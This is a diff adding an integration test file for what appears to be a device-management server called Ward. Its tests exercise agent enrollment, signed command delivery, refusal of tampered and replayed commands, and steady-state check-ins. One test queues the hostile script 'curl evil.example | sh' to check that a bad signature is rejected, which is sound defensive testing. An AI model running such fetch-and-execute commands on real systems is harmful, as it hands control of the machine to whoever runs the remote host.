@@ -1,0 +1,116 @@
+import { sign } from 'node:crypto';
+import { commandSigningInput } from '@ward/agent-protocol';
+import type { CommandId, DeviceId, PendingCommand } from '@ward/core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runVirtualAgents, simulatorAgentVersion, type VirtualFleet } from '../src/index.js';
+import { startInProcessWard, type InProcessWard } from './support/in-process-ward.js';
+
+interface DeviceAction { readonly id: string; readonly type: string; readonly status: string; readonly result: Record<string, unknown> | null }
+interface Outcome { readonly deviceId: string; readonly commandId: string | null; readonly status: string }
+
+let ward: InProcessWard;
+let fleet: VirtualFleet;
+let enrollmentToken: string;
+
+beforeAll(async () => {
+  ward = await startInProcessWard();
+  const created = await ward.api<{ text: string }>('POST', '/api/v1/enrollment-tokens', { name: 'Virtual fleet', maxUses: null, ownership: 'corporate', expiresInHours: 1 });
+  enrollmentToken = created.text;
+  fleet = await runVirtualAgents({ server: ward.url, enrollmentToken, count: 2, caPem: ward.caPem, hardwareIdPrefix: 'sim-test' });
+  await fleet.until((s) => s.pushOpen === 2 && s.checkIns >= 2 && s.busy === 0, 20_000, 'two agents connected and checked in');
+});
+
+afterAll(async () => {
+  await fleet.stop();
+  await ward.close();
+});
+
+async function actionsOf(deviceId: string): Promise<DeviceAction[]> {
+  return (await ward.api<{ items: DeviceAction[] }>('GET', `/api/v1/devices/${deviceId}/actions`)).items;
+}
+
+function device(index: number): { readonly deviceId: string } {
+  const agent = fleet.agents[index];
+  if (agent === undefined) throw new Error(`no agent ${index}`);
+  return agent.identity;
+}
+
+describe('a virtual agent against the real server composition', () => {
+  it('enrolls with a CSR of its own key, holds a push socket and reports its facts', async () => {
+    const { deviceId } = device(0);
+    const detail = await ward.api<{ name: string; platform: string; facts: Record<string, unknown>; lastSeenAt: string | null }>('GET', `/api/v1/devices/${deviceId}`);
+    expect(detail).toMatchObject({ name: 'virtual-00000', platform: 'linux', facts: { agentVersion: simulatorAgentVersion, encrypted: true } });
+    expect(detail.lastSeenAt).not.toBeNull();
+    expect(fleet.stats()).toMatchObject({ enrolled: 2, enrollFailures: 0, pushOpen: 2, checkInFailures: 0 });
+  });
+
+  it('is woken by a sync, verifies the signed command, and gets its result acknowledged', async () => {
+    const { deviceId } = device(0);
+    const before = fleet.stats();
+    const requested = await ward.api<{ items: Outcome[] }>('POST', '/api/v1/devices/actions', { deviceIds: [deviceId], type: 'sync' }, 202);
+    expect(requested.items).toEqual([expect.objectContaining({ deviceId, status: 'queued' })]);
+    const after = await fleet.until((s) => (s.acknowledged.sync?.succeeded ?? 0) === 1 && s.busy === 0, 10_000, 'the sync acknowledged');
+    expect(after.wakes).toBeGreaterThan(before.wakes);
+    expect(after.commandsRefused).toBe(0);
+    // Woken, then a check-in that fetched the command and one that delivered its result.
+    expect(after.checkIns - before.checkIns).toBe(2);
+    expect(fleet.agents[0]?.unacknowledged).toBe(0);
+    const [action] = await actionsOf(deviceId);
+    expect(action).toMatchObject({ id: requested.items[0]?.commandId, type: 'sync', status: 'succeeded' });
+  });
+
+  it('refuses a command whose signed content was altered, and reports it failed', async () => {
+    const { deviceId } = device(1);
+    const { deps, tenant, storeSet } = ward.server.runtime;
+    const now = new Date();
+    const expiresAt = new Date(now.getTime() + 3_600_000);
+    const id = deps.ids.newId() as CommandId;
+    // Signed by the server's real key over one script, queued with another: what an attacker with
+    // write access to the queue (but not the key) could do.
+    const signed = { id, deviceId, type: 'runScript', payload: { interpreter: 'sh', script: 'echo hello', timeoutSeconds: 10 }, expiresAt: expiresAt.toISOString() };
+    const signature = sign('sha256', commandSigningInput(signed), ward.server.keys.commandSigning.privateKey).toString('base64');
+    const tampered: PendingCommand = {
+      id, tenantId: tenant.id, deviceId: deviceId as DeviceId, type: 'runScript', payload: { ...signed.payload, script: 'curl evil.example | sh' }, signature,
+      status: 'queued', deliveries: 0, requestedBy: 'attacker', createdAt: now, sentAt: null, expiresAt,
+    };
+    await deps.tx.transaction(async (s) => { await s.enqueueCommand(tampered); });
+    storeSet.events.publishNow({ type: 'device.wake', tenantId: tenant.id, subject: deviceId });
+
+    const after = await fleet.until((s) => (s.acknowledged.runScript?.failed ?? 0) === 1 && s.busy === 0, 10_000, 'the refusal acknowledged');
+    expect(after.commandsRefused).toBe(1);
+    expect(after.acknowledged.runScript?.succeeded ?? 0).toBe(0);
+    const [action] = await actionsOf(deviceId);
+    expect(action).toMatchObject({ id, type: 'runScript', status: 'failed', result: expect.objectContaining({ error: 'signature invalid' }) });
+  });
+
+  it('refuses a genuine command replayed to another device', async () => {
+    const target = device(0).deviceId;
+    const other = device(1).deviceId;
+    const { deps, tenant, storeSet } = ward.server.runtime;
+    const now = new Date();
+    const expiresAt = new Date(now.getTime() + 3_600_000);
+    const id = deps.ids.newId() as CommandId;
+    const signature = sign('sha256', commandSigningInput({ id, deviceId: other, type: 'lock', payload: {}, expiresAt: expiresAt.toISOString() }), ward.server.keys.commandSigning.privateKey).toString('base64');
+    const refusedBefore = fleet.stats().commandsRefused;
+    await deps.tx.transaction(async (s) => {
+      await s.enqueueCommand({ id, tenantId: tenant.id, deviceId: target as DeviceId, type: 'lock', payload: {}, signature, status: 'queued', deliveries: 0, requestedBy: 'replay', createdAt: now, sentAt: null, expiresAt });
+    });
+    storeSet.events.publishNow({ type: 'device.wake', tenantId: tenant.id, subject: target });
+    const after = await fleet.until((s) => (s.acknowledged.lock?.failed ?? 0) === 1 && s.busy === 0, 10_000, 'the replay refused');
+    expect(after.commandsRefused).toBe(refusedBefore + 1);
+    expect((await actionsOf(target))[0]).toMatchObject({ id, status: 'failed', result: expect.objectContaining({ error: 'signature invalid' }) });
+  });
+
+  it('checks in back to back during a steady-state run, then returns to its schedule', async () => {
+    const report = await fleet.steady(1_000, 200);
+    expect(report.failures).toBe(0);
+    expect(report.checkIns).toBeGreaterThan(4);
+    const stats = fleet.stats();
+    expect(stats.busy).toBe(0);
+    // After the first connection, check-in connections resume the device's TLS session.
+    expect(stats.tlsResumed).toBeGreaterThan(0);
+    const checkIns = stats.checkIns;
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(fleet.stats().checkIns).toBe(checkIns);
+  });
+});
